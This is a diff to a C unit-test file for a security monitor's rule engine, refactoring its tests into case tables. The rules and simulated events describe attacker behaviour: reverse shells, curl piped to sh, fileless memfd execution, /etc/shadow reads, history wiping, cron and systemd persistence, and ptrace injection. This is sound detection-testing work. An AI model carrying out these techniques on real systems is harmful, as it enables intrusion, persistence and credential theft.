 		"  - {id: hist, events: [rename, unlink], match: {file.name: .bash_history}, "
 		"action: alert}\n"
 		"  - {id: into, events: [rename], match: {file.new_path: {prefix: /etc/cron.d/}}, "
@@ -552,44 +584,49 @@ static void test_files(void **state)
 		"file.trunc: true}, action: alert}\n"
 		"  - {id: ro, events: [open], match: {file.path: /etc/shadow, file.write: false}, "
 		"action: alert}\n"
-		"  - {id: anyopen, events: [open], match: {file.path: /etc/shadow}, action: log}\n");
-	struct sg_event ev;
-
-	ev = ev_open(20, "/home/u/.bash_history", false, 0);
-	ev.type = SG_EV_UNLINK;
-	assert_string_equal(judge(p, &ev), "hist");
-	ev.type = SG_EV_RENAME;
-	ev.file.path = "/home/u/.bash_history";
-	ev.file.new_path = "/tmp/x";
-	assert_string_equal(judge(p, &ev), "hist");
-	ev.file.path = "/tmp/job";
-	ev.file.new_path = "/etc/cron.d/job";
-	assert_string_equal(judge(p, &ev), "into");
-	/* the old path alone is not file.new_path */
-	ev.file.path = "/etc/cron.d/job";
-	ev.file.new_path = "/tmp/job";
-	assert_string_equal(judge(p, &ev), "-");
-	/* file.path on a rename: the old or the new path */
-	ev.file.path = "/tmp/unit";
-	ev.file.new_path = "/etc/systemd/system/evil.service";
-	assert_string_equal(judge(p, &ev), "either");
-	ev.file.path = "/etc/systemd/system/evil.service";
-	ev.file.new_path = "/tmp/unit";
-	assert_string_equal(judge(p, &ev), "either");
-	ev = ev_open(20, "/var/log/auth.log", true, O_WRONLY | O_TRUNC);
-	assert_string_equal(judge(p, &ev), "trunc");
-	ev.file.flags = O_WRONLY | O_APPEND;
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_open(20, "/etc/shadow", false, 0);
-	assert_string_equal(judge(p, &ev), "ro");
-	ev.file.write = true;
-	assert_string_equal(judge(p, &ev), "anyopen");
-	policy_free(p);
-}
-
-static void test_exec_context(void **state)
+		"  - {id: anyopen, events: [open], match: {file.path: /etc/shadow}, action: log}\n",
+	.j = {
+		{ FILEV(SG_EV_UNLINK, "/home/u/.bash_history"), "hist" },
+		{ FILEV(SG_EV_RENAME, "/home/u/.bash_history", .new_path = "/tmp/x"), "hist" },
+		{ FILEV(SG_EV_RENAME, "/tmp/job", .new_path = "/etc/cron.d/job"), "into" },
+		/* the old path alone is not file.new_path */
+		{ FILEV(SG_EV_RENAME, "/etc/cron.d/job", .new_path = "/tmp/job"), "-" },
+		/* file.path on a rename: the old or the new path */
+		{ FILEV(SG_EV_RENAME, "/tmp/unit", .new_path = "/etc/systemd/system/evil.service"),
+		  "either" },
+		{ FILEV(SG_EV_RENAME, "/etc/systemd/system/evil.service", .new_path = "/tmp/unit"),
+		  "either" },
+		{ OPEN(20, "/var/log/auth.log", .write = true, .flags = O_WRONLY | O_TRUNC), "trunc" },
+		{ OPEN(20, "/var/log/auth.log", .write = true, .flags = O_WRONLY | O_APPEND), "-" },
+		{ OPEN(20, "/etc/shadow"), "ro" },
+		{ OPEN(20, "/etc/shadow", .write = true), "anyopen" },
+	},
+},
 {
-	struct policy *p = load(HDR
+	.name = "chmod",
+	.policy = HDR
+		"  - {id: suid, events: [chmod], match: [{file.setuid: true, file.path: {prefix: /tmp/}},"
+		" {file.setgid: true, file.path: {prefix: /tmp/}}], action: alert}\n"
+		"  - {id: exact, events: [chmod], match: {file.mode: 511, file.name: x}, action: alert}\n"
+		"  - {id: exe, events: [chmod], match: {file.exec: true, file.path: {prefix: /dev/shm/}},"
+		" action: log}\n",
+	.j = {
+		{ FILEV(SG_EV_CHMOD, "/tmp/a", .mode = 04755), "suid" },
+		{ FILEV(SG_EV_CHMOD, "/tmp/a", .mode = 02755), "suid" },
+		{ FILEV(SG_EV_CHMOD, "/tmp/a", .mode = 0755), "-" },
+		{ FILEV(SG_EV_CHMOD, "/home/u/a", .mode = 04755), "-" },
+		/* file.mode: the permission bits only (0777 is 511) */
+		{ FILEV(SG_EV_CHMOD, "/srv/x", .mode = S_IFREG | 0777), "exact" },
+		{ FILEV(SG_EV_CHMOD, "/srv/x", .mode = 0776), "-" },
+		{ FILEV(SG_EV_CHMOD, "/dev/shm/p", .mode = 0700), "exe" },
+		{ FILEV(SG_EV_CHMOD, "/dev/shm/p", .mode = 0600), "-" },
+		/* an open of the same path is not a chmod */
+		{ OPEN(20, "/tmp/a", .mode = 04755), "-" },
+	},
+},
+{
+	.name = "exec_context",
+	.policy = HDR
 		"  - {id: rev, events: [exec], match: [{proc.name: [sh, dash], stdin: socket}], "
 		"action: alert}\n"
 		"  - {id: pipe, events: [exec], match: [{proc.name: [sh, dash], stdin.pipe_from: curl},"
@@ -597,106 +634,39 @@ static void test_exec_context(void **state)
 		"  - {id: anysock, events: [exec], match: {stdio: socket}, action: log}\n"
 		"  - {id: mem, events: [exec], match: {exec.fileless: memfd}, action: alert}\n"
 		"  - {id: ld, events: [exec], match: {exec.via: loader, exec.loader_target: "
-		"{prefix: /tmp/}}, action: alert}\n");
-	static const char argv[] = "sh\0-i";
-	struct proc_entry curl = { .pid = 77, .comm = "curl", .exe = "/usr/bin/curl" };
-	struct proc_entry sh = { .pid = 78, .comm = "sh", .exe = "/usr/bin/dash" };
-	struct sg_event ev;
-
-	ev = ev_exec(20, "/usr/bin/dash", argv, sizeof(argv));
-	ev.exec.has_stdio = true;
-	ev.exec.stdio[0].kind = SG_FD_SOCKET;
-	ev.exec.stdio[1].kind = SG_FD_SOCKET;
-	assert_string_equal(judge(p, &ev), "rev");
-	ev.exec.stdio[0].kind = SG_FD_TTY;
-	assert_string_equal(judge(p, &ev), "anysock"); /* stdout still a socket */
-	ev.exec.stdio[1].kind = SG_FD_TTY;
-	assert_string_equal(judge(p, &ev), "-");
-	/* curl | sh, the shell exec'd last */
-	ev.exec.stdio[0].kind = SG_FD_PIPE;
-	ev.exec.stdio[0].peer = &curl;
-	assert_string_equal(judge(p, &ev), "pipe");
-	ev.exec.stdio[0].peer = &sh;
-	assert_string_equal(judge(p, &ev), "-");
-	ev.exec.stdio[0].peer = NULL;
-	assert_string_equal(judge(p, &ev), "-");
-	/* curl | sh, curl exec'd last: its stdout's reader is the shell */
-	ev = ev_exec(21, "/usr/bin/curl", "curl\0", 5);
-	ev.exec.has_stdio = true;
-	ev.exec.stdio[1].kind = SG_FD_PIPE;
-	ev.exec.stdio[1].peer = &sh;
-	assert_string_equal(judge(p, &ev), "pipe");
-	/* without stdio (a failed exec) no stdio condition holds */
-	ev.exec.has_stdio = false;
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_exec(22, "/usr/bin/true", "true\0", 5);
-	ev.exec.fileless = "memfd";
-	assert_string_equal(judge(p, &ev), "mem");
-	ev.exec.fileless = "deleted";
-	assert_string_equal(judge(p, &ev), "-");
-	ev.exec.fileless = NULL;
-	ev.exec.via = "loader";
-	ev.exec.loader_target = "/tmp/x";
-	assert_string_equal(judge(p, &ev), "ld");
-	ev.exec.loader_target = "/usr/bin/x";
-	assert_string_equal(judge(p, &ev), "-");
-	policy_free(p);
-
-	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {stdin: sock}}\n",
-		     "unknown value 'sock' (expected closed, tty, pipe, socket, file, null, chr, "
-		     "other)");
-	expect_error(HDR "  - {id: a, events: [open], action: log, match: {stdin: socket}}\n",
-		     "field 'stdin' does not exist for events [open]");
-}
-
-static void test_chmod(void **state)
+		"{prefix: /tmp/}}, action: alert}\n",
+	.j = {
+		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
+		       .stdio = { SG_FD_SOCKET, SG_FD_SOCKET }), "rev" },
+		/* stdout still a socket */
+		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
+		       .stdio = { SG_FD_TTY, SG_FD_SOCKET }), "anysock" },
+		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
+		       .stdio = { SG_FD_TTY, SG_FD_TTY }), "-" },
+		/* curl | sh, the shell exec'd last */
+		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
+		       .stdio = { SG_FD_PIPE, SG_FD_TTY }, .peer = { &peer_curl }), "pipe" },
+		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
+		       .stdio = { SG_FD_PIPE, SG_FD_TTY }, .peer = { &peer_sh }), "-" },
+		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
+		       .stdio = { SG_FD_PIPE, SG_FD_TTY }), "-" },
+		/* curl | sh, curl exec'd last: its stdout's reader is the shell */
+		{ EXEC(21, "/usr/bin/curl", "curl\0", 5, .has_stdio = true,
+		       .stdio = { [1] = SG_FD_PIPE }, .peer = { [1] = &peer_sh }), "pipe" },
+		/* without stdio (a failed exec) no stdio condition holds */
+		{ EXEC(21, "/usr/bin/curl", "curl\0", 5, .stdio = { [1] = SG_FD_PIPE },
+		       .peer = { [1] = &peer_sh }), "-" },
+		{ EXEC(22, "/usr/bin/true", "true\0", 5, .fileless = "memfd"), "mem" },
+		{ EXEC(22, "/usr/bin/true", "true\0", 5, .fileless = "deleted"), "-" },
+		{ EXEC(22, "/usr/bin/true", "true\0", 5, .via = "loader",
+		       .loader_target = "/tmp/x"), "ld" },
+		{ EXEC(22, "/usr/bin/true", "true\0", 5, .via = "loader",
+		       .loader_target = "/usr/bin/x"), "-" },
+	},
+},
 {
-	struct policy *p = load(HDR
-		"  - {id: suid, events: [chmod], match: [{file.setuid: true, file.path: {prefix: /tmp/}},"
-		" {file.setgid: true, file.path: {prefix: /tmp/}}], action: alert}\n"
-		"  - {id: exact, events: [chmod], match: {file.mode: 511, file.name: x}, action: alert}\n"
-		"  - {id: exe, events: [chmod], match: {file.exec: true, file.path: {prefix: /dev/shm/}},"
-		" action: log}\n");
-	struct sg_event ev;
-
-	ev = ev_open(20, "/tmp/a", false, 0);
-	ev.type = SG_EV_CHMOD;
-	ev.file.mode = 04755;
-	assert_string_equal(judge(p, &ev), "suid");
-	ev.file.mode = 02755;
-	assert_string_equal(judge(p, &ev), "suid");
-	ev.file.mode = 0755;
-	assert_string_equal(judge(p, &ev), "-");
-	ev.file.path = "/home/u/a";
-	ev.file.mode = 04755;
-	assert_string_equal(judge(p, &ev), "-");
-	/* file.mode: the permission bits only (0777 is 511) */
-	ev.file.path = "/srv/x";
-	ev.file.mode = S_IFREG | 0777;
-	assert_string_equal(judge(p, &ev), "exact");
-	ev.file.mode = 0776;
-	assert_string_equal(judge(p, &ev), "-");
-	ev.file.path = "/dev/shm/p";
-	ev.file.mode = 0700;
-	assert_string_equal(judge(p, &ev), "exe");
-	ev.file.mode = 0600;
-	assert_string_equal(judge(p, &ev), "-");
-	/* an open of the same path is not a chmod */
-	ev = ev_open(20, "/tmp/a", false, 0);
-	ev.file.mode = 04755;
-	assert_string_equal(judge(p, &ev), "-");
-	policy_free(p);
-
-	/* the mode fields exist for chmod only */
-	expect_error(HDR "  - {id: a, events: [open], action: log, match: {file.setuid: true}}\n",
-		     "field 'file.setuid' does not exist for events [open]");
-	expect_error(HDR "  - {id: a, events: [chmod], action: log, match: {file.write: true}}\n",
-		     "field 'file.write' does not exist for events [chmod]");
-}
-
-static void test_net(void **state)
-{
-	struct policy *p = load(HDR
+	.name = "net",
+	.policy = HDR
 		"  - {id: lan, events: [connect], match: {net.addr: [10.0.0.0/8, 'fd00::/8']}, "
 		"action: log}\n"
 		"  - {id: dns, events: [connect], match: {net.port: 53, net.proto: udp}, action: log}\n"
@@ -707,64 +677,285 @@ static void test_net(void **state)
 		"  - {id: unix, events: [connect], match: {net.family: unix}, action: log}\n"
 		"  - {id: notweb, events: [bind, listen], match: {net.port: {not: [80, 443]}}, "
 		"action: alert}\n"
-		"  - {id: fail, events: [connect], match: {result: failure}, action: log}\n");
-	struct sg_event ev;
+		"  - {id: fail, events: [connect], match: {result: failure}, action: log}\n",
+	.j = {
+		{ NET(SG_EV_CONNECT, "10.1.2.3", 22, IPPROTO_TCP), "lan" },
+		{ NET(SG_EV_CONNECT, "::ffff:10.1.2.3", 22, IPPROTO_TCP), "lan" },
+		{ NET(SG_EV_CONNECT, "fd12::1", 22, IPPROTO_TCP), "lan" },
+		{ NET(SG_EV_CONNECT, "9.9.9.9", 53, IPPROTO_UDP), "dns" },
+		{ NET(SG_EV_CONNECT, "9.9.9.9", 53, IPPROTO_TCP), "-" },
+		/* the protocol from the socket type when the kernel gave none */
+		{ NET(SG_EV_CONNECT, "9.9.9.9", 53, 0, .sock_type = SET(SOCK_DGRAM)), "dns" },
+		{ NET(SG_EV_CONNECT, "9.9.9.9", 443, IPPROTO_TCP), "web" },
+		{ NET(SG_EV_CONNECT, "2001:db8::1", 1500, IPPROTO_TCP), "high" },
+		{ NET(SG_EV_CONNECT, "9.9.9.9", 1500, IPPROTO_TCP), "-" },
+		{ NET(SG_EV_CONNECT, "192.0.2.7", 1, IPPROTO_TCP), "host" },
+		{ NET(SG_EV_CONNECT, "192.0.2.8", 1, IPPROTO_TCP), "-" },
+		{ NET(SG_EV_CONNECT, "192.0.2.8", 1, IPPROTO_TCP, .result = SET(-ECONNREFUSED)),
+		  "fail" },
+		{ NET(SG_EV_CONNECT, "0.0.0.0", 0, 0, .family = SET(AF_UNIX),
+		      .unix_path = "/run/x.sock"), "unix" },
+		{ NET(SG_EV_BIND, "0.0.0.0", 8080, IPPROTO_TCP), "notweb" },
+		{ NET(SG_EV_LISTEN, "0.0.0.0", 443, IPPROTO_TCP), "-" },
+	},
+},
+{
+	.name = "events_field",
+	.policy = HDR
+		"  - {id: w, events: [open], match: {event: write}, action: alert}\n"
+		"  - {id: ok, events: [exec, fork, exit], match: {result: success}, action: log}\n",
+	.j = {
+		{ OPEN(20, "/x", .write = true, .flags = O_WRONLY), "w" },
+		{ OPEN(20, "/x", .flags = O_WRONLY), "-" },
+		{ { .type = SG_EV_FORK, .pid = 20, .comm = "sh", .exe = "/usr/bin/dash",
+		    .has_result = SET(false) }, "ok" },
+		{ EXEC(20, "/nonexistent", "x\0", 2, .result = SET(-ENOENT)), "-" },
+	},
+},
+{
+	/* ptrace.request: value i is bit i of the names in event.h (attach, seize, vm_write) */
+	.name = "ptrace",
+	.policy = HDR
+		"  - {id: seize, events: [ptrace], match: {ptrace.request: seize}, action: alert}\n"
+		"  - {id: mem, events: [ptrace], match: {ptrace.request: [vm_write], "
+		"ptrace.target: dash}, action: alert}\n"
+		"  - {id: att, events: [ptrace], match: {ptrace.request: {not: [seize, vm_write]}}, "
+		"action: log}\n",
+	.j = {
+		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
+		    .request = 0x4206 /* PTRACE_SEIZE */ }, "seize" },
+		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
+		    .request = 0 /* process_vm_writev */, .target = &procs[2] }, "mem" },
+		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
+		    .request = 0, .target = &procs[1] }, "-" },
+		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
+		    .request = 16 /* PTRACE_ATTACH */, .target = &procs[1] }, "att" },
+		/* another request: no name, 'not' holds */
+		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
+		    .request = 7, .target = &procs[1] }, "att" },
+	},
+},
+};
 
-	ev = ev_net(SG_EV_CONNECT, "10.1.2.3", 22, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "lan");
-	ev = ev_net(SG_EV_CONNECT, "::ffff:10.1.2.3", 22, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "lan");
-	ev = ev_net(SG_EV_CONNECT, "fd12::1", 22, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "lan");
-	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 53, IPPROTO_UDP);
-	assert_string_equal(judge(p, &ev), "dns");
-	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 53, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "-");
-	/* the protocol from the socket type when the kernel gave none */
-	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 53, 0);
-	ev.net.sock_type = SOCK_DGRAM;
-	assert_string_equal(judge(p, &ev), "dns");
-	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 443, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "web");
-	ev = ev_net(SG_EV_CONNECT, "2001:db8::1", 1500, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "high");
-	ev = ev_net(SG_EV_CONNECT, "9.9.9.9", 1500, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_net(SG_EV_CONNECT, "192.0.2.7", 1, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "host");
-	ev = ev_net(SG_EV_CONNECT, "192.0.2.8", 1, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "-");
-	ev.result = -ECONNREFUSED;
-	assert_string_equal(judge(p, &ev), "fail");
-	ev = ev_net(SG_EV_CONNECT, "0.0.0.0", 0, 0);
-	ev.net.family = AF_UNIX;
-	ev.net.unix_path = "/run/x.sock";
-	assert_string_equal(judge(p, &ev), "unix");
-	ev = ev_net(SG_EV_BIND, "0.0.0.0", 8080, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "notweb");
-	ev = ev_net(SG_EV_LISTEN, "0.0.0.0", 443, IPPROTO_TCP);
-	assert_string_equal(judge(p, &ev), "-");
+/* One case of vcases: its policy, then each event in turn. */
+static void test_verdicts(void **state)
+{
+	const struct vcase *vc = *state;
+	struct policy *p = load(vc->policy);
+
+	for (size_t i = 0; i < sizeof(vc->j) / sizeof(vc->j[0]) && vc->j[i].want; i++) {
+		const struct judgement *j = &vc->j[i];
+		struct sg_event ev = mkev(&j->ev);
+		const char *got;
+		int r;
+
+		r = policy_eval_lineage(p, &ev, j->ev.no_lineage ? NULL : &lineage);
+		got = ev.verdict.rule_id ? ev.verdict.rule_id : "-";
+		if (strcmp(got, j->want) != 0)
+			fail_msg("%s, event %zu: rule '%s', expected '%s'", vc->name, i, got,
+				 j->want);
+		if (r != (int)ev.verdict.action || ev.verdict.repeat != 1 || ev.verdict.enforced)
+			fail_msg("%s, event %zu: returned %d, verdict %d, repeat %u, enforced %d",
+				 vc->name, i, r, ev.verdict.action, ev.verdict.repeat,
+				 ev.verdict.enforced);
+		if (j->action && ev.verdict.action != j->action)
+			fail_msg("%s, event %zu: action %s, expected %s", vc->name, i,
+				 sg_action_name(ev.verdict.action), sg_action_name(j->action));
+		if (j->severity && ev.verdict.severity != j->severity)
+			fail_msg("%s, event %zu: severity %s, expected %s", vc->name, i,
+				 sg_severity_name(ev.verdict.severity),
+				 sg_severity_name(j->severity));
+	}
+	if (vc->stats) {
+		struct policy_stats st;
+
+		policy_stats(p, &st);
+		assert_int_equal(st.evaluated, vc->st.evaluated);
+		assert_int_equal(st.excluded, vc->st.excluded);
+		assert_int_equal(st.defaulted, vc->st.defaulted);
+	}
+	if (vc->dedup_window_ns)
+		assert_int_equal(policy_dedup_window_ns(p), vc->dedup_window_ns);
 	policy_free(p);
 }
 
-static void test_events_field(void **state)
-{
-	struct policy *p = load(HDR
-		"  - {id: w, events: [open], match: {event: write}, action: alert}\n"
-		"  - {id: ok, events: [exec, fork, exit], match: {result: success}, action: log}\n");
-	struct sg_event ev;
+/* ---- errors ---------------------------------------------------------------- */
 
-	ev = ev_open(20, "/x", true, O_WRONLY);
-	assert_string_equal(judge(p, &ev), "w");
-	ev.file.write = false;
-	assert_string_equal(judge(p, &ev), "-");
-	ev = ev_base(SG_EV_FORK, 20, "sh", "/usr/bin/dash");
-	ev.has_result = false;
-	assert_string_equal(judge(p, &ev), "ok");
-	ev = ev_exec(20, "/nonexistent", "x\0", 2);
-	ev.result = -ENOENT;
-	assert_string_equal(judge(p, &ev), "-");
+/* A policy text, and a message its load must give (it fails to load). */
+struct ecase {
+	const char *text;
+	const char *msg;
+};
+
+static const struct ecase ecases[] = {
+	/* match_any */
+	{ HDR "  - {id: a, events: [exec], action: log, match: []}\n",
+	  "t.yaml:3:49: 'match' is an empty list" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: [{}]}\n",
+	  "a 'match' entry has no conditions" },
+	/* exec_context */
+	{ HDR "  - {id: a, events: [exec], action: log, match: {stdin: sock}}\n",
+	  "unknown value 'sock' (expected closed, tty, pipe, socket, file, null, chr, "
+	  "other)" },
+	{ HDR "  - {id: a, events: [open], action: log, match: {stdin: socket}}\n",
+	  "field 'stdin' does not exist for events [open]" },
+	/* chmod */
+	{ HDR "  - {id: a, events: [open], action: log, match: {file.setuid: true}}\n",
+	  "field 'file.setuid' does not exist for events [open]" },
+	{ HDR "  - {id: a, events: [chmod], action: log, match: {file.write: true}}\n",
+	  "field 'file.write' does not exist for events [chmod]" },
+	/* ptrace */
+	{ HDR "  - {id: a, events: [ptrace], action: log, match: {ptrace.request: peek}}\n",
+	  "unknown value 'peek' (expected attach, seize, vm_write)" },
+	/* documents, rules, fields and their values */
+	{ "version: 2\n",
+	  "t.yaml:1:10: unsupported version '2'" },
+	{ "rules: []\n",
+	  "t.yaml:1:1: missing 'version: 1'" },
+	{ "- a\n",
+	  "t.yaml:1:1: a policy must be a mapping" },
+	{ "",
+	  "t.yaml:1:1: a policy must be a mapping" },
+	{ "version: 1\nfoo: 1\n",
+	  "t.yaml:2:1: unknown key 'foo'" },
+	{ "version: 1\nversion: 1\n",
+	  "t.yaml:2:1: duplicate key 'version'" },
+	{ "version: 1\nrules: [\n",
+	  "t.yaml:3:1: YAML: " },
+	{ "version: 1\na: &x 1\n",
+	  "YAML anchors are not supported" },
+	{ HDR "  - {id: a, events: [exec], action: alert, bogus: 1}\n",
+	  "t.yaml:3:44: unknown key 'bogus' in a rule" },
+	{ HDR "  - {events: [exec], action: alert}\n",
+	  "t.yaml:3:5: a rule without 'id'" },
+	{ HDR "  - {id: a, action: alert}\n",
+	  "t.yaml:3:5: rule 'a' has no 'events'" },
+	{ HDR "  - {id: a, events: exec}\n",
+	  "t.yaml:3:5: rule 'a' has no 'action'" },
+	{ HDR "  - {id: a, events: [exec, bogus], action: alert}\n",
+	  "t.yaml:3:28: unknown event type 'bogus'" },
+	{ HDR "  - {id: a, events: [exec], action: kill}\n",
+	  "t.yaml:3:37: unknown action 'kill'" },
+	{ HDR "  - {id: a, events: [exec], action: alert, severity: huge}\n",
+	  "t.yaml:3:54: unknown severity 'huge'" },
+	{ HDR "  - {id: a, events: [exec], action: log}\n"
+	  "  - {id: a, events: [exec], action: log}\n",
+	  "t.yaml:4:10: duplicate rule id 'a' (first at t.yaml:3:5)" },
+	{ HDR "  - {id: 'a b', events: [exec], action: log}\n",
+	  "bad rule id 'a b'" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.bogus: x}}\n",
+	  "t.yaml:3:50: unknown field 'proc.bogus'" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {file.path: /x}}\n",
+	  "t.yaml:3:50: field 'file.path' does not exist for events [exec]" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: {like: x}}}\n",
+	  "t.yaml:3:61: unknown operator 'like' for 'proc.exe'" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: {prefix: 1}}}\n",
+	  "unknown operator 'prefix' for 'proc.uid' (expected in, not, all)" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: abc}}\n",
+	  "t.yaml:3:60: bad number or range 'abc' for 'proc.uid'" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: 5-1}}\n",
+	  "bad number or range '5-1'" },
+	{ HDR "  - {id: a, events: [connect], action: log, match: {net.port: 2000-1000}}\n",
+	  "t.yaml:3:63: bad port or port range '2000-1000': port range runs backwards" },
+	{ HDR "  - {id: a, events: [connect], action: log, match: {net.port: 70000}}\n",
+	  "bad port or port range '70000'" },
+	{ HDR "  - {id: a, events: [connect], action: log, match: {net.addr: 10.0.0.1/8}}\n",
+	  "t.yaml:3:63: bad address or CIDR '10.0.0.1/8': host bits set" },
+	{ HDR "  - {id: a, events: [connect], action: log, match: {net.addr: 1.2.3}}\n",
+	  "bad address or CIDR '1.2.3': not an IP address" },
+	/* enumerations, lists, exceptions, operators, defaults */
+	{ HDR "  - {id: a, events: [connect], action: log, match: {net.proto: sctp}}\n",
+	  "t.yaml:3:64: unknown value 'sctp' (expected tcp, udp)" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: $nope}}\n",
+	  "t.yaml:3:60: unknown list 'nope'" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: []}}\n",
+	  "empty list of values for 'proc.exe'" },
+	{ HDR "  - {id: a, events: [open], action: log, match: {file.write: maybe}}\n",
+	  "'file.write' takes true or false, not 'maybe'" },
+	{ HDR "  - {id: a, events: [exec], action: log, except: [{}]}\n",
+	  "an exception has no conditions" },
+	{ HDR "  - {id: a, events: [exec], action: log, except: {proc.uid: 0}}\n",
+	  "'except' must be a list of condition sets" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: [x]}\n",
+	  "t.yaml:3:50: a 'match' entry must be a mapping, not a string" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: x}\n",
+	  "t.yaml:3:49: 'match' must be a mapping, not a string" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: {in: x, is: y}}}\n",
+	  "operator 'in' given twice" },
+	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: "
+	  "{not: {not: {not: {not: {not: x}}}}}}}\n",
+	  "'not' nested too deeply" },
+	{ "version: 1\nlists: {a: [x, $b]}\n",
+	  "t.yaml:2:16: list 'a' refers to another" },
+	{ "version: 1\nlists: {a: x}\n",
+	  "t.yaml:2:12: a list must be a list" },
+	{ "version: 1\ndefaults: {action: block}\n",
+	  "bad default action 'block'" },
+	{ "version: 1\ndefaults: {dedup_window: 5}\n",
+	  "t.yaml:2:26: bad duration '5'" },
+	{ "version: 1\ndefaults: {dedup_window: 2h}\n",
+	  "bad duration '2h'" },
+	{ "version: 1\ndefaults: {dedup_window: 9999s}\n",
+	  "longer than 3600s" },
+	{ "version: 1\ndefaults: {colour: red}\n",
+	  "unknown key 'colour' in 'defaults'" },
+	{ "version: 1\nexclude: [{}]\n",
+	  "an exclusion has no conditions" },
+	{ "version: 1\nrules: {a: 1}\n",
+	  "'rules' must be a list, not a mapping" },
+};
+
+static void test_errors(void **state)
+{
+	for (size_t i = 0; i < sizeof(ecases) / sizeof(ecases[0]); i++) {
+		char *out = load_fail(ecases[i].text);
+
+		if (!strstr(out, ecases[i].msg))
+			fail_msg("error case %zu: expected '%s' in:\n%s", i, ecases[i].msg, out);
+		free(out);
+	}
+}
+
+/* ---- the rest ---------------------------------------------------------------- */
+
+static const char *vcase_policy(const char *name)
+{
+	for (size_t i = 0; i < sizeof(vcases) / sizeof(vcases[0]); i++)
+		if (strcmp(vcases[i].name, name) == 0)
+			return vcases[i].policy;
+	fail_msg("no verdict case '%s'", name);
+	return NULL;
+}
+
+/* The dump names ptrace requests as the policy does. */
+static void test_ptrace_dump(void **state)
+{
+	struct policy *p = load(vcase_policy("ptrace"));
+	char *d = dump(p);
+
+	assert_non_null(strstr(d, "ptrace.request: {in: [seize]}"));
+	assert_non_null(strstr(d, "ptrace.request: {not: {in: [seize, vm_write]}}"));
+	free(d);
 	policy_free(p);
+}
+
+/* Every row of the field table is whole: a unique name, a group, a reader, value names. */
+static void test_field_table(void **state)
+{
+	for (int f = 0; f < FLD_MAX; f++) {
+		const struct pfield_desc *fd = &policy_fields[f];
+		int named = 0;
+
+		assert_non_null(fd->name);
+		assert_int_equal(policy_field_find(fd->name), f);
+		assert_int_not_equal(fd->group, 0);
+		assert_int_not_equal(policy_field_events[f], 0);
+		assert_non_null(fd->get.bits); /* whichever member its kind reads */
+		for (int b = 0; b < 32; b++)
+			named += policy_enum_name(f, b) != NULL;
+		assert_true(fd->kind == PK_ENUM ? named > 0 : named == 0);
+	}
+	assert_int_equal(policy_field_find("proc.bogus"), -1);
 }
 
 struct pieces {
@@ -837,87 +1028,6 @@ static void test_block(void **state)
 	policy_eval_lineage(p, &ev, NULL);
 	assert_true(ev.verdict.enforced);
 	policy_free(p);
-}
-
-static void test_errors(void **state)
-{
-	expect_error("version: 2\n", "t.yaml:1:10: unsupported version '2'");
-	expect_error("rules: []\n", "t.yaml:1:1: missing 'version: 1'");
-	expect_error("- a\n", "t.yaml:1:1: a policy must be a mapping");
-	expect_error("", "t.yaml:1:1: a policy must be a mapping");
-	expect_error("version: 1\nfoo: 1\n", "t.yaml:2:1: unknown key 'foo'");
-	expect_error("version: 1\nversion: 1\n", "t.yaml:2:1: duplicate key 'version'");
-	expect_error("version: 1\nrules: [\n", "t.yaml:3:1: YAML: ");
-	expect_error("version: 1\na: &x 1\n", "YAML anchors are not supported");
-	expect_error(HDR "  - {id: a, events: [exec], action: alert, bogus: 1}\n",
-		     "t.yaml:3:44: unknown key 'bogus' in a rule");
-	expect_error(HDR "  - {events: [exec], action: alert}\n", "t.yaml:3:5: a rule without 'id'");
-	expect_error(HDR "  - {id: a, action: alert}\n", "t.yaml:3:5: rule 'a' has no 'events'");
-	expect_error(HDR "  - {id: a, events: exec}\n", "t.yaml:3:5: rule 'a' has no 'action'");
-	expect_error(HDR "  - {id: a, events: [exec, bogus], action: alert}\n",
-		     "t.yaml:3:28: unknown event type 'bogus'");
